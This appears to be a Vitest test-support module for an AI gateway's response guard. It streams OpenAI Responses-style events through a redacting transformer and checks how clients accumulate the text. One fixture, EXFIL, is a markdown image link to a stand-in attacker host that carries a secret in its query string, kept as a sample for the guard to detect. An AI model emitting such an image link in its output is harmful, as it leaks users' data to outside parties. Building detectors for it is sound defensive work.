import { expect } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { SAMPLE_DETECTORS } from '../../guard/test-support/sample-detectors.js';
import { parseGatewayConfig } from '../config/load-gateway-config.js';
import { createOutputChecker } from '../guard/output-checker.js';
import { createResponseGuard } from '../guard/response-guard.js';
import { createOpenAIResponsesStream } from '../streaming/openai-responses-stream.js';
import { createSseParser, type SseEvent } from '../streaming/sse-parser.js';

// Shared by the Responses stream tests: a response guard over the sample detectors, a transformer run
// that parses what the caller receives, and a client-side accumulation of every streamed text.

export const guard = createGuard({ policy: 'balanced', detectors: SAMPLE_DETECTORS });
export const config = parseGatewayConfig({});
export const KEY = `sk-${'Zx9Cv8Bn7M'.repeat(3)}`;
export const ORIGINAL = 'ann "the boss" <ann@example.com>';
export const EXFIL = '![x](https://attacker.example/p.png?d=secret)';

export function setup(tools: ReadonlySet<string> | null = new Set(['lookup', 'apply_patch'])) {
  const vault = guard.createVault();
  const email = vault.placeholderFor('EMAIL_ADDRESS', ORIGINAL);
  const responseGuard = createResponseGuard({
    checker: createOutputChecker({ guard, failMode: config.failMode }),
    streaming: config.streaming,
    vault,
    tools,
    maxBufferChars: 1_000_000,
  });
  return { email, responseGuard, transformer: createOpenAIResponsesStream(responseGuard) };
}

export type Received = { event: string | undefined; data: Record<string, unknown> };

/** Runs events through a fresh transformer (stopping at a violation, as the gateway does). */
export function run(makeEvents: (email: string) => readonly SseEvent[], tools?: ReadonlySet<string> | null) {
  const { email, responseGuard, transformer } = setup(tools);
  let out = '';
  let completeAt = -1;
  for (const [index, event] of makeEvents(email).entries()) {
    out += transformer.onEvent(event);
    if (responseGuard.violation !== undefined) {
      out += transformer.closing(responseGuard.violation);
      break;
    }
    if (transformer.complete === true && completeAt === -1) completeAt = index;
  }
  if (responseGuard.violation === undefined && completeAt === -1) out += transformer.onEnd();
  const received: Received[] = [];
  const parser = createSseParser({
    onEvent: (event) =>
      received.push({ event: event.event, data: JSON.parse(event.data) as Record<string, unknown> }),
  });
  parser.push(Buffer.from(out));
  parser.end();
  return { out, received, completeAt, violation: responseGuard.violation };
}

/** Channel of a delta or `.done` event, as the caller's client would accumulate it. */
export function textKey(data: Record<string, unknown>): string {
  // Earlier event names end in `_delta` / `_done` (`response.mcp_call.arguments_delta`).
  const kind = String(data.type).replace(/[._](delta|done)$/, '');
  return `${kind}/${data.item_id}/${data.content_index ?? data.summary_index ?? ''}`;
}

export const DONE_FIELDS: Record<string, string> = {
  'response.output_text.done': 'text',
  'response.refusal.done': 'refusal',
  'response.reasoning_summary_text.done': 'text',
  'response.reasoning_text.done': 'text',
  'response.function_call_arguments.done': 'arguments',
  'response.custom_tool_call_input.done': 'input',
  'response.mcp_call_arguments.done': 'arguments',
  'response.mcp_call.arguments_done': 'arguments',
  'response.mcp_call.arguments.done': 'arguments',
  'response.code_interpreter_call_code.done': 'code',
  'response.code_interpreter_call.code.done': 'code',
};

/**
 * Accumulates the deltas of every text as a client does, and checks that each `.done` event repeats
 * exactly what the deltas delivered before it (held text is released before the `.done`). Returns the
 * texts by delta type.
 */
export function accumulate(received: readonly Received[]): Map<string, string> {
  const texts = new Map<string, string>();
  for (const { event, data } of received) {
    expect(event).toBe(data.type);
    const type = String(data.type);
    if (/[._]delta$/.test(type)) {
      const key = textKey(data);
      texts.set(key, (texts.get(key) ?? '') + String(data.delta));
    } else if (DONE_FIELDS[type] !== undefined) {
      expect(data[DONE_FIELDS[type]]).toBe(texts.get(textKey(data)) ?? '');
    }
  }
  return texts;
}
